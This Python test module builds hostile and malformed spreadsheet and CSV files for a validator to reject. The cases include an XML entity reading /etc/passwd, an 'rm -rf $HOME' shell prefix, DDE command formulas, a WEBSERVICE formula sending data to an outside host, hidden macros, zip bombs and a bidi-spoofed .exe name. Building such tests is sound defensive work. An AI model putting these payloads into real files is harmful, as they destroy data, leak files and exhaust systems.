"""More files that harm, lie or are not what they say, beyond those of `hostile`.

`CASES` maps a name to (rule that must refuse it, function of a folder that puts it there and
returns its path). The rule is "" where the file must be read all the same. `why` tells in one
sentence what is nasty about it.
"""

import os
import random
import struct
import zipfile
from pathlib import Path

from raw import (
    CELL,
    HEAD,
    MAIN,
    biff,
    number_record,
    ole2,
    parts,
    record,
    relation,
    relations,
    sheet_xml,
    strings_xml,
    styles_xml,
    workbook_xml,
    xls,
    xlsx,
    zipped,
)

CASES = {}
BOOK = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def why(name):
    """Sentence on why a case is nasty."""
    return CASES[name][1].__doc__


def at_path(rule):
    """Enter a case that makes its own path."""
    def enter(make):
        assert make.__doc__ and make.__name__ not in CASES
        CASES[make.__name__] = (rule, make)
        return make
    return enter


def file(rule, name="报表.xlsx"):
    """Enter a case that makes a file's bytes."""
    def enter(make):
        def put(folder: Path) -> Path:
            path = folder / name
            path.write_bytes(make())
            return path
        put.__doc__, put.__name__ = make.__doc__, make.__name__
        at_path(rule)(put)
        return make
    return enter


def sheets(rows, rule, why, **named):
    """Enter a case that is a workbook with these rows; the name comes first in ``why``."""
    name, _, sentence = why.partition(": ")

    def make():
        return xlsx(rows, **named)
    make.__name__, make.__doc__ = name, sentence
    file(rule)(make)


# ---- Paths ----

@at_path("F101")
def missing(folder):
    """Nobody looks whether the file is still there."""
    return folder / "没有.xlsx"


@at_path("F101")
def zero_in_path(folder):
    """A NUL ends a path for the system and not for Python."""
    return folder / "a\0b.xlsx"


@at_path("F105")
def device(_folder):
    """A device gives zeros without end."""
    return Path("/dev/zero")


@at_path("F107")
def over_20_mb(folder):
    """One byte more than anyone may send, and nothing in it but zeros."""
    path = folder / "大.xlsx"
    path.touch()
    os.truncate(path, 20 * 1024 * 1024 + 1)
    return path


# ---- Something else ----


@file("F112", "表.xls")
def old_letter_as_xls():
    """A .doc is an OLE2 file of the same make."""
    return ole2({"WordDocument": b"x", "1Table": b"y"})


@file("F112", "表.xls")
def rich_text_as_xls():
    """Rich text begins like text."""
    return rb"{\rtf1\ansi\trowd 1\cell 2\cell\row}"


@file("F115", "全部.xlsx")
def zip_of_workbooks():
    """All townships' workbooks in one archive that calls itself a workbook."""
    return zipped({"a.xlsx": xlsx(), "b.xlsx": xlsx()})


@file("F116", "导出.xls")
def page_in_utf16():
    """The same page with a zero after every letter."""
    return "<table><tr><td>菜园镇</td></tr></table>".encode("utf-16")


@file("F116", "导出.xls")
def page_in_one_file():
    """A mail-like web archive."""
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"


@file("F119")
def noise():
    """Bytes that are nothing at all."""
    return random.Random(4).randbytes(5000)


@file("F119", "表.xls")
def other_ole2():
    """An OLE2 file of a program nobody has."""
    return ole2({"Contents": b"x"})


@file("F119", "表.xls")
def records_without_file():
    """A workbook's records without the OLE2 file around them."""
    return biff()


# ---- ZIP ----


@file("F131")
def bomb_in_many_parts():
    """Each part stays below every limit; together they fill the memory."""
    return xlsx(extra={f"xl/media/{at}.xml": b"<a>" + b" " * 999_000 for at in range(102)})


@file("F132")
def part_over_directory():
    """A part that claims bytes up to the directory and beyond."""
    data = bytearray(zipped(parts(), zipfile.ZIP_STORED))
    entry = data.rindex(b"PK\x01\x02")
    local = struct.unpack_from("<L", data, entry + 42)[0]
    for at in (entry + 20, entry + 24, local + 18, local + 22):
        struct.pack_into("<L", data, at, struct.unpack_from("<L", data, at)[0] + 50)
    return bytes(data)


@file("F115")
def holds_itself_like():
    """An archive whose only member is an archive of the same name."""
    return zipped({"r/r.zip": zipped({"r/r.zip": b"PK\x05\x06" + bytes(18)})})


@file("F127")
def name_with_drive():
    """A part on drive C."""
    return xlsx(extra={"C:/a.xml": b"<a/>"})


@file("F127")
def name_with_zero():
    """Readers that stop at the NUL see another name than those that do not."""
    return xlsx(extra={"xl/worksheets/sheet1.xmlX.png": b"x"}).replace(
        b"sheet1.xmlX.png", b"sheet1.xml\0.png")


@file("F127")
def same_part_twice():
    """One reader takes the first sheet of the name, another the last."""
    return zipped({**parts(), "xl/worksheets/sheetX.xml": sheet_xml(CELL)}).replace(
        b"sheetX.xml", b"sheet1.xml")


@file("F129")
def other_compression():
    """A method that readers know and nobody expects, with a ratio without limit."""
    return zipped(parts(), zipfile.ZIP_LZMA)


@file("F128")
def script_before_zip():
    """A program for one reader, a workbook for another."""
    return b"#!/bin/sh\nrm -rf $HOME\nexit\n" + xlsx()


@file("F128")
def zip_behind_zip():
    """Two workbooks in one file: which one counts?"""
    return xlsx() + xlsx('<row r="1"><c r="A1"><v>2</v></c></row>')


@file("F128")
def bytes_behind_zip():
    """Room for something that travels unseen."""
    return xlsx() + b"hidden"


def cut(share):
    """Enter a workbook that was cut off on its way."""
    def make():
        data = xlsx(strings=strings_xml("<si><t>a</t></si>" * 50))
        return data[:int(len(data) * share)]
    make.__name__ = f"cut_at_{int(share * 100)}_percent"
    make.__doc__ = f"The connection broke after {int(share * 100)} % of the file."
    file("F125")(make)


for _share in (0.02, 0.3, 0.6, 0.9, 0.995):
    cut(_share)


@file("F126")
def directory_gone():
    """The list of parts is zeros, its end is whole."""
    data = xlsx()
    start, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    return data[:start] + bytes(end - start) + data[end:]


@file("F126")
def larger_than_it_is():
    """The directory tells more bytes than come."""
    data = bytearray(xlsx())
    entry = data.rindex(b"PK\x01\x02")
    local = struct.unpack_from("<L", data, entry + 42)[0]
    for at in (entry + 24, local + 22):
        struct.pack_into("<L", data, at, 5000)
    return bytes(data)


@file("F126")
def two_opinions_on_size():
    """A part's own header and the directory disagree."""
    data = bytearray(xlsx())
    struct.pack_into("<L", data, 22, 77)
    return bytes(data)


@file("F126")
def stream_broken_inside():
    """Packed bytes that cannot be unpacked."""
    data = xlsx()
    at = data.index(SHEET.encode()) + len(SHEET)
    return data[:at] + b"\xff" * 20 + data[at + 20:]


# ---- What acts or reaches out ----


@file("F121")
def macros_under_another_name():
    """The part is called a picture; the relationship says what it is."""
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return xlsx(extra={"xl/media/image1.png": b"x", BOOK: relations(
        relation("rId1", "worksheet", "worksheets/sheet1.xml"),
        relation("rId9", kind, "media/image1.png"))})


@file("F121", "表.xls")
def macro_sheet_in_xls():
    """An Excel 4 macro sheet in the old format."""
    return xls(sheets=((number_record(0, 0), 0), (b"", 1)))


@file("F123")
def control():
    """A control that can load any component of Windows."""
    return xlsx(extra={"xl/activeX/activeX1.xml": "<x/>"})


@file("F123", "表.xls")
def embedded_file_in_xls():
    """Another file inside the old format."""
    return xls(storages=("MBD0001A2B3",))


@file("F122")
def picture_from_the_net():
    """A picture that tells its owner who opened the file."""
    return xlsx(extra={"xl/drawings/_rels/drawing1.xml.rels": relations(
        relation("rId1", "image", "http://192.0.2.1/a.png", ' TargetMode="External"'))})


@file("F122")
def sheet_from_the_net():
    """The sheet itself lies on a server."""
    return xlsx(rels=relations(relation("rId1", "worksheet", "http://192.0.2.1/sheet1.xml")))


@file("F122", "表.xls")
def link_in_xls():
    """A link to another workbook in the old format."""
    return xls(book=record(0x1AE, struct.pack("<H", 1) + b"\x05\x00\x00\x01a.xls"))


sheets('<row r="1"><c r="A1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c></row>', "F122",
       "command_in_formula: A formula that starts a program (DDE).")
sheets('<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/")</f><v>1</v></c></row>', "F122",
       "net_in_formula: A formula that sends the figures out.")
sheets('<row r="1"><c r="A1"><f>[1]表!$A$1*2</f><v>1</v></c></row>', "F122",
       "other_workbook_in_formula: A formula on a workbook that is no longer listed.")

# ---- XML ----


@file("F124")
def entity_behind_long_comment():
    """A comment of 100 KB before the entity, longer than what a quick look reads."""
    return xlsx(sheet=sheet_xml(CELL).replace(HEAD, f"{HEAD}<!--{'x' * 100_000}-->{ENTITY}"))


@file("F124")
def entity_in_theme():
    """An entity in a part that we do not parse, but the next program does."""
    return xlsx(extra={"xl/theme/theme1.xml": f"{HEAD}<!--{'x' * 9000}-->{ENTITY}<a/>"})


@file("F143")
def endless_attribute():
    """One tag of 3 MB, which parsers read again with every piece that comes."""
    address = random.Random(1).randbytes(1_500_000).hex()
    return xlsx(f'<row r="1"><c r="{address}"><v>1</v></c></row>')


@file("F143")
def formats_without_end():
    """Half a million empty cells that bear a format: somebody formatted the whole sheet."""
    letters = [chr(65 + at) for at in range(26)]
    cells = "".join(f'<c r="{one}{two}#" s="0"/>' for one in letters[:4] for two in letters)
    rows = "".join(f'<row r="{row}">{cells.replace("#", str(row))}</row>'
                   for row in range(1, 5001))
    return xlsx(rows)


@file("F139")
def wide_merges():
    """A few thousand merged areas, each over the whole table."""
    rows = "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c><c r="SA{row}"><v>1</v></c></row>'
                   for row in range(1, 5001))
    merges = '<mergeCell ref="A1:SA5000"/>' * 200
    return xlsx(sheet=sheet_xml(rows, after=f"<mergeCells>{merges}</mergeCells>"))


@file("F140")
def many_strings():
    """A table of texts that no cell uses."""
    return xlsx(strings=strings_xml("".join(f"<si><t>{at}</t></si>" for at in range(150_001))))


@file("F140")
def long_strings():
    """Eleven million characters in texts of allowed length."""
    text = random.Random(2).randbytes(15_000).hex()
    return xlsx(strings=strings_xml("".join(f"<si><t>{at}{text}</t></si>" for at in range(370))))


@file("F141")
def many_styles():
    """More styles than Excel itself can count."""
    return xlsx(styles=styles_xml(styles=range(66_001)))


sheets("".join(f'<row r="{row}"><c><v>{row}</v></c></row>' for row in range(1, 200_002)), "F136",
       "rows_200001: All inhabitants instead of all townships.")


@file("F136")
def cells_5_million():
    """Half an hour of parsing in eight megabytes."""
    digits = random.Random(3)
    row = "".join(f"<row>{''.join(f'<c><v>{digits.randrange(10)}</v></c>' for _ in range(100))}"
                  "</row>" for _ in range(200))
    return zipped(parts(row * 250), level=1)


sheets('<row r="1"><c r="A1"><v>NaN</v></c></row>', "F144",
       "number_that_is_none: Compares as false with every bound.")
sheets('<row r="1"><c r="A1"><v>1_000</v></c></row>', "F144",
       "number_as_python_writes_it: Only Python takes it for a thousand.")
sheets('<row r="1"><c r="A1"><v>１２</v></c></row>', "F144",
       "number_in_full_width: A number cell that no spreadsheet wrote.")
sheets('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>', "F144",
       "text_from_behind: Python would take the last one.",
       strings=strings_xml("<si><t>a</t></si>"))
sheets('<row r="1"><c r="A1" t="b"><v>2</v></c></row>', "F144",
       "neither_true_nor_false: A truth value that is two.")
sheets('<row r="1"><c r="A1" t="d"><v>2025-02-30</v></c></row>', "F144",
       "day_that_is_none: A date that no calendar has.")
sheets('<row r="1"><c r="A1" t="zz"><v>1</v></c></row>', "F144",
       "type_that_is_none: A kind of cell of somebody's own.")
sheets('<row r="1"><c r="A1"><v>5</v><is><t>6</t></is></c></row>', "F144",
       "two_contents: A number and a text in the same cell.")
sheets('<row r="1"><c r="A1" s="1"><v>0.95</v></c></row>', "F145",
       "styles_lost: Without its style nobody can tell 0.95 from 95 %.")
sheets('<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'
       '<row r="2"><c r="A2"><v>2</v></c></row>', "F146",
       "same_row_twice: The second one comes after another row.")
sheets('<row r="1"><c r="A2"><v>1</v></c></row>', "F126",
       "cell_in_another_row: The cell says row 2, its row says 1.")
sheets('<row r="0"><c><v>1</v></c></row>', "F126", "row_zero: Rows begin with one.")
sheets('<row r="-1"><c><v>1</v></c></row>', "F126", "row_below_zero: Python counts from behind.")
sheets('<row r="1"><c r="A1"><v>1</v><v>2</v></c></row>', "F126",
       "two_values: Which of them is shown?")
sheets('<row r="1"><c r="A1"><c r="A1"><v>1</v></c></c></row>', "F126",
       "cell_in_cell: A cell inside a cell.")
sheets(CELL, "F126", "merge_of_nothing: A merged area that is no area.",
       sheet=sheet_xml(CELL, after='<mergeCells><mergeCell ref="#REF!"/></mergeCells>'))


@file("F126")
def encoding_of_its_own():
    """An encoding that readers look up by a name from the file."""
    return xlsx(sheet=sheet_xml(CELL).replace("UTF-8", "utf-7"))


@file("F126")
def one_part_for_two_sheets():
    """Sixty sheets that are one and the same part."""
    return xlsx(workbook=workbook_xml('<sheet name="a" sheetId="1" r:id="rId1"/>'
                                      '<sheet name="b" sheetId="2" r:id="rId1"/>'))


@file("F126")
def sheet_that_is_the_workbook():
    """A relationship that leads back to where it began."""
    return xlsx(rels=relations(relation("rId1", "worksheet", "workbook.xml")))


@file("F126")
def workbook_that_is_its_relations():
    """The package's first relationship leads to itself."""
    return xlsx(root=relations(relation("rId1", "officeDocument", "_rels/.rels")))


@file("F126")
def two_workbooks():
    """Two parts claim to be the workbook."""
    return xlsx(root=relations(relation("rId1", "officeDocument", "xl/workbook.xml"),
                               relation("rId2", "officeDocument", "xl/other.xml")))


@file("F126")
def same_relation_twice():
    """An id that means two parts."""
    return xlsx(rels=relations(relation("rId1", "worksheet", "worksheets/sheet1.xml"),
                               relation("rId1", "worksheet", "worksheets/sheet2.xml")))


# ---- .xls ----

@file("F125", "表.xls")
def cut_xls():
    """The second half of the old format is missing."""
    data = xls(sheets=((b"".join(number_record(row, 0) for row in range(2000)), 0),))
    return data[:len(data) // 2]


@file("F126", "表.xls")
def chain_that_bites_its_tail():
    """Sectors that follow one another in a circle."""
    data = bytearray(xls())
    table = struct.unpack_from("<L", data, 76)[0]
    struct.pack_into("<L", data, 512 * (table + 1) + 4, 0)
    return bytes(data)


@file("F126", "表.xls")
def broken_records():
    """Records whose content is nothing that xlrd has seen."""
    return xls(sheets=((record(0x1B6, b"\xff" * 3) + record(0xFD, b"\0" * 10), 0),))


@file("F137", "表.xls")
def stray_cell_in_xls():
    """One cell in the last row of the old format."""
    return xls(sheets=((number_record(0, 0) + number_record(65_535, 255), 0),))


@file("F136", "表.xls")
def many_cells_in_xls():
    """A hundred thousand and one cells in the old format."""
    row = struct.pack("<2H", 0, 0)
    packed = b"".join(record(0xBD, struct.pack("<H", at) + row[:2] + bytes(6 * 250)
                             + struct.pack("<H", 249)) for at in range(401))
    return xls(sheets=((packed, 0),))


@file("F143", "表.xls")
def blanks_in_xls():
    """Millions of empty formatted cells in the old format."""
    blanks = b"".join(record(0xBE, struct.pack("<2H", row, 0) + bytes(2 * 256)
                             + struct.pack("<H", 255)) for row in range(3000))
    return xls(sheets=((blanks, 0),))


# ---- Text ----


@file("F106", "表.csv")
def spaces_only():
    """Lines of spaces and commas."""
    return b" , ,\r\n , ,\r\n\x1a"


@file("F151", "表.csv")
def zeros_only():
    """A file that was allocated and never filled."""
    return bytes(500)


@file("", "表.csv")
def utf16_without_mark():
    """UTF-16 that does not say so looks like text full of zeros."""
    return "乡镇,人数\r\n菜园镇,5\r\n".encode("utf-16-le")


@file("", "表.csv")
def gb18030_with_four_bytes():
    """A rare character in a place name takes four bytes, two of which are digits."""
    return "村名,人数\r\n㐇㳇村,5\r\n𠮷祥村,6\r\n".encode("gb18030")


@file("F152", "表.csv")
def utf8_cut_in_character():
    """The last character is cut; GB18030 would read the whole file as other words."""
    return "乡镇名称,人数\n菜园镇,五".encode()[:-1]


@file("F150", "表.csv")
def half_surrogates():
    """Half of a character in UTF-16: no other program can write it."""
    return b"\xff\xfe" + "a,".encode("utf-16-le") + b"\x00\xd8" + "b".encode("utf-16-le")


@file("F150", "表.csv")
def utf16_of_odd_length():
    """The last byte of UTF-16 is missing."""
    return "a,b\n1,2".encode("utf-16")[:-1]


@file("F153", "表.csv")
def text_behind_quote():
    """What stands behind the closing quote belongs to which cell?"""
    return b'a,b\n"x"y,5\n'


@file("F142", "表.csv")
def endless_field():
    """A field longer than a cell can be."""
    return b"a,b\n" + b"x" * 40_000 + b",1\n"


@file("F135", "表.csv")
def rows_200001_in_text():
    """A survey of everyone."""
    return b"a,b\n" + b"1,2\n" * 200_001


@file("F138", "表.csv")
def many_columns_in_text():
    """A text that lies on its side."""
    return b",".join(b"%d" % at for at in range(600))


@file("", "表.csv")
def formulas_in_text():
    """Cells that become commands once a spreadsheet opens the text."""
    return "乡镇,说明\n菜园镇,=cmd|'/c calc'!A0\n嵊山镇,@SUM(1)\n".encode()


@file("", "表.xls")
def workbook_named_xls():
    """The right content under a wrong name, which Excel refuses to open."""
    return xlsx()


@file("", "表.csv")
def workbook_named_csv():
    """A workbook whose name says text."""
    return xlsx()


@file("", "表.xlsx")
def text_named_xlsx():
    """A text whose name says workbook."""
    return "乡镇,人数\n菜园镇,5\n".encode("gb18030")


@file("", "a\u202exslx.exe.xlsx")
def name_that_turns_round():
    """A bidi mark shows another ending than the name has."""
    return xlsx()


sheets('<row r="1"><c r="A1"><f>SUM(B1:B9)</f></c><c r="B1"><f>1+1</f><v></v></c></row>', "",
       "formulas_never_calculated: Some readers give nothing for them, some zero.")
sheets(CELL, "", "dimension_that_lies: A dimension of the whole sheet around one cell.",
       sheet=sheet_xml(CELL, before='<dimension ref="A1:XFD1048576"/>'))
sheets('<row r="1"><c r="A1" t="inlineStr"><is><t>&lt;script&gt;\u202e_x0000_</t></is></c></row>',
       "", "text_with_markup: Markup, a bidi mark and a NUL in one cell.")
sheets(f'<x:row r="1" xmlns:x="{MAIN}"><x:c r="A1"><x:v>1</x:v></x:c></x:row>', "",
       "prefix_inside: Elements that bear a prefix halfway down.")
